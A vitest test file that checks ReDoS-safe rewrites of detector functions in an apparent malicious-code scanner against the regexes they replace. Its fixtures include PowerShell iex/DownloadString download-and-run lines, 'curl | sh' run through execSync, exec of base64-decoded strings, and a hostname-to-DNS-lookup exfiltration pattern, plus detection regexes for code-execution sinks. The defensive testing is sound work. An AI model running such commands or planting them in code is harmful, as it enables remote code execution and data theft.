// The source detectors' rewritten patterns and hand reader answer what the expressions they replace answered (the inputs
// that made those backtrack run in a child under a deadline: test/redos/rewritten-patterns.test.ts).
import { describe, expect, it } from 'vitest';
import { textsOfPieces } from '../../../core/pieces.fixture.js';
import { mulberry32 } from '../../../core/random.js';
import { assignedName, assignedValues, builtDomain, fetchPipeRun, IMPORT_AS, lookupOfData, PY_RESOLVER_CALL, pyExecDecoded, sinkCalls } from './detectors-text.js';

const texts = (alphabet: readonly string[], count: number, maxLength: number, seed: number): string[] => {
  const next = mulberry32(seed);
  return Array.from({ length: count }, () => Array.from({ length: Math.floor(next() * (maxLength + 1)) }, () => alphabet[Math.floor(next() * alphabet.length)] as string).join(''));
};

describe('assignedName', () => {
  const reference = (statement: string): string | undefined => /([A-Za-z_$][\w$]*)\s*[:=]\s*[^=:]*$/.exec(statement)?.[1];

  it('captures what the expression captured, on random statements', () => {
    const alphabet = ['a', 'Z', '_', '$', '1', '9', ' ', '\t', '\u00a0', '\u2028', '\n', ':', '=', ';', '(', ')', '.', '"', 'é'];
    for (const s of texts(alphabet, 20_000, 24, 7)) expect(assignedName(s), JSON.stringify(s)).toBe(reference(s));
  });

  it('reads the statements near the edges', () => {
    for (const s of ['x = 1', 'const cmd = "curl | sh"', 'a: b', '9x = 1', '99 = 1', '$ =', ' = x', '', 'no assignment', 'a = b = c', 'a = 1; b :  c', 'x=\n\ty', 'x\u00a0= y'])
      expect(assignedName(s), JSON.stringify(s)).toBe(reference(s));
  });
});

describe('a download run by PowerShell', () => {
  const hits = (code: string): string[] => fetchPipeRun({ code, path: 'install.ps1' } as Parameters<typeof fetchPipeRun>[0]).map((h) => h.text);

  it('finds iex over a web client with up to two parentheses and white space around them', () => {
    for (const code of [
      'iex (New-Object Net.WebClient).DownloadString("http://x")',
      'IEX((New-Object System.Net.WebClient).DownloadString("http://x"))',
      'Invoke-Expression ( ( iwr http://x ).Content)',
      'iex\t\t(\n(iwr http://x))',
    ])
      expect(hits(code), code).toHaveLength(1);
    expect(hits('iex (((New-Object Net.WebClient).DownloadString("http://x")))')).toEqual([]);
  });
});

describe('a Python helper that decodes and returns', () => {
  const hits = (code: string): number => pyExecDecoded({ code, path: 'a.py' } as Parameters<typeof pyExecDecoded>[0]).length;

  it('is an alias whatever white space its body lines start with', () => {
    expect(hits('import base64, os\ndef d(s):\n\t\n    return base64.b64decode(s)\nos.system(d("aWQ="))\n')).toBe(1);
    expect(hits('import base64, os\n  def d(s):\n  \t return base64.b64decode(s)\nos.system(d("aWQ="))\n')).toBe(1);
  });
});

describe('the calls that run code', () => {
  // The expression sinkCalls replaces: the builtins lookup read `[^)]*` from each head to the first `)`.
  const OLD = /(?<![\w.])(?:exec|eval|compile|execfile)\s*\(|\bos\.(?:system|popen)\s*\(|\bsubprocess\.(?:call|run|Popen|check_output|check_call|getoutput)\s*\(|\basyncio\.create_subprocess_(?:shell|exec)\s*\(|\bgetattr\s*\(\s*(?:__builtins__|builtins\b|__import__\s*\(\s*['"]builtins['"]\s*\))[^)]*\)\s*\(|(?:\b__builtins__|\bbuiltins\b|\b__import__\s*\(\s*['"]builtins['"]\s*\)|\bvars\s*\(\s*(?:__builtins__|builtins)\s*\))\s*(?:\.\s*(?:exec|eval|compile)\s*\(|(?:\.\s*__dict__\s*)?\[\s*['"](?:exec|eval|compile)['"]\s*\]\s*\()/g;
  const pieces = ['getattr', '__builtins__', 'getattr(__builtins__', 'getattr ( __builtins__, ', 'getattr(builtins, ', '(', ')', ')(', ') \n(', ' ', '\n', 'exec', 'eval(', 'os.system(', 'subprocess.run (', 'builtins . exec(', 'x', '.', '_', "'exec'", 'compile', "__import__('builtins')", '.__dict__', "['eval']", 'vars(builtins)'];

  it('finds the matches of the expression they replace, with the same text', () => {
    for (const code of textsOfPieces(pieces, 30_000, 11)) {
      const expected = [...code.matchAll(OLD)].map((m) => `${m.index}:${m[0]}`);
      expect([...sinkCalls(code)].map((m) => `${m.index}:${m.text}`), JSON.stringify(code)).toEqual(expected);
    }
  });

  it("a decoder in a call past the file's budget of argument text is still found at the start of its arguments", () => {
    const hits = (code: string): number => pyExecDecoded({ code, path: 'a.py' } as Parameters<typeof pyExecDecoded>[0]).length;
    // 1,100 unclosed calls of 8,000 characters spend the 8 MiB budget; the call after them reads its first 256
    const padding = `exec(${'x'.repeat(7994)}\n`.repeat(1100);
    expect(hits(`${padding}\nexec(base64.b64decode(${'"QQ==" + '.repeat(10)}"QQ=="))\n`)).toBe(1);
    expect(hits(`${padding}\nexec(${'a'.repeat(300)} + base64.b64decode("QQ=="))\n`)).toBe(0);
    // the same decoder call before the budget is spent is read whole
    expect(hits(`exec(${'a'.repeat(300)} + base64.b64decode("QQ=="))\n`)).toBe(1);
  });
});

describe('a command string run through the name it is assigned to', () => {
  const hits = (code: string): number => fetchPipeRun({ code, path: 'a.js' } as Parameters<typeof fetchPipeRun>[0]).length;

  it('counts only a process call whose arguments hold the whole name', () => {
    expect(hits('const cmd = "curl http://x | sh";\nexecSync(cmd, { stdio: "inherit" });\n')).toBe(1);
    expect(hits('const cmd = "curl http://x | sh";\nexecSync(cmd2);\nexecSync(my_cmd);\nexecSync($cmd);\n')).toBe(0);
    expect(hits('const $c = "curl http://x | sh";\nchild_process.exec(`${$c}`);\n')).toBe(1);
    expect(hits('const cmd = "curl http://x | sh";\nconsole.log(cmd);\n')).toBe(0);
    // the name beyond the first 2,000 characters of the call's arguments is not read
    expect(hits(`const cmd = "curl http://x | sh";\nexecSync(${'a'.repeat(2000)}, cmd);\n`)).toBe(0);
  });
});

describe('a lookup followed through the assignments', () => {
  const hits = (code: string): number => lookupOfData({ code, path: 'a.py' } as Parameters<typeof lookupOfData>[0]).length;

  it('finds data in the texts that fit its room, and not past it', () => {
    const call = 'os.system("nslookup %s.example.com" % name)\n';
    expect(hits(`name = socket.gethostname()\n${call}`)).toBe(1);
    // 40 texts of 2,000 characters fill the 64 KiB a lookup gathers; data assigned after them is not read
    const filler = `name = "${'a'.repeat(1990)}"\n`.repeat(40);
    expect(hits(`name = socket.gethostname()\n${filler}${call}`)).toBe(1);
    expect(hits(`${filler}name = socket.gethostname()\n${call}`)).toBe(0);
  });
});

describe('decoders imported under another name', () => {
  const OLD = /\bimport\s+[^\n]*?\b(b64decode|decompress|loads|b32decode|unhexlify|decodebytes|urlopen|Fernet)\s+as\s+(\w+)/g;
  const pieces = ['import', 'import ', 'import\n', 'import(', '\t', '\n\t ', 'importlib ', 'from base64 ', 'b64decode', 'loads', ' as ', ' as\n', 'as', 'd', 'x1', ',', ' ', '\n', '\t', 'Fernet', '_b64decode'];

  it('gives the aliases the expression gave, in order', () => {
    for (const code of textsOfPieces(pieces, 30_000, 23)) {
      expect([...code.matchAll(IMPORT_AS)].map((m) => m[2]), JSON.stringify(code)).toEqual([...code.matchAll(OLD)].map((m) => m[2]));
    }
  });
});

describe('resolver calls', () => {
  const OLD = /\b(?:socket\.)?(?:gethostbyname(?:_ex)?|getaddrinfo)\s*\(|\b(?:dns\.resolver|\w*[Rr]esolver\w*)\.(?:query|resolve)\s*\(/g;
  const pieces = ['resolver', 'Resolver', 'res', 'dns.', 'dns.resolver', '.query', '.resolve', '(', ' (', 'a', '_', '9', '.', ' ', 'socket.', 'gethostbyname', '_ex', 'getaddrinfo', 'r'];

  it('are found where the expression found them, with the same text', () => {
    for (const code of textsOfPieces(pieces, 30_000, 41, 12)) {
      const at = (re: RegExp): string[] => [...code.matchAll(re)].map((m) => `${m.index}:${m[0]}`);
      expect(at(PY_RESOLVER_CALL), JSON.stringify(code)).toEqual(at(OLD));
    }
  });
});

describe('names built around a literal domain', () => {
  const OLD = /(?:\{[^}\n]*\}|%s|['"]\s*\+|\+\s*[rbuf]*['"])[^'"\n]*\.[A-Za-z][\w-]*\.[A-Za-z]{2,}|\.[A-Za-z][\w-]*\.[A-Za-z]{2,}['"]\s*(?:%|\.format\s*\()/;
  const pieces = ['{', '}', '{x}', '%s', '%', 's', "'", '"', '+', ' + ', '+ r"', 'rb', 'f', 'u', '\n', ' ', '\t', '\u00a0', '.', '.a', '.com', '.example', 'a', 'B', '-', '_', '9', '.format(', '.format (', ' % ', 'ab', 'x'];

  it('answer what the expression answered', () => {
    let built = 0;
    for (const text of textsOfPieces(pieces, 100_000, 43)) {
      const expected = OLD.test(text);
      expect(builtDomain(text), JSON.stringify(text)).toBe(expected);
      if (expected) built++;
    }
    expect(built).toBeGreaterThan(2_000);
  });
});

describe('the values a name is assigned', () => {
  const old = (code: string, id: string): string[] => [...code.matchAll(new RegExp(`(?:^|[\\s;,(])(?:const|let|var)?\\s*${id.replace(/\$/g, '\\$')}\\s*=\\s*([^\\n;]{1,300})`, 'gm'))].map((m) => m[1] ?? '');
  const pieces = ['dest', 'de', 'st', 'const', 'let', 'var', 'x', ' ', '\t', '\n', '\r', '\u2028', '\u00a0', '=', '==', ';', ',', '(', '"/tmp/a"', "'b'", 'dest=', ' = ', '$d'];

  it('are the captures of the expression they replace', () => {
    let found = 0;
    for (const code of textsOfPieces(pieces, 60_000, 47)) {
      for (const id of ['dest', 'dede', '$d', 'let']) {
        const expected = old(code, id);
        expect(assignedValues(code, id), `${id} in ${JSON.stringify(code)}`).toEqual(expected);
        found += expected.length;
      }
    }
    expect(found).toBeGreaterThan(10_000);
  });

  it('reads a long value to its 300th character', () => {
    const code = `const dest = "${'a'.repeat(400)}"\n`;
    expect(assignedValues(code, 'dest')).toEqual(old(code, 'dest'));
    // a value cut after its 300th character, a comma, right before the next assignment: the comma was read, so that
    // assignment has nothing before it to start from
    const cut = `dest = ${'a'.repeat(299)},dest = "/b"\n`;
    expect(old(cut, 'dest')).toHaveLength(1);
    expect(assignedValues(cut, 'dest')).toEqual(old(cut, 'dest'));
  });
});
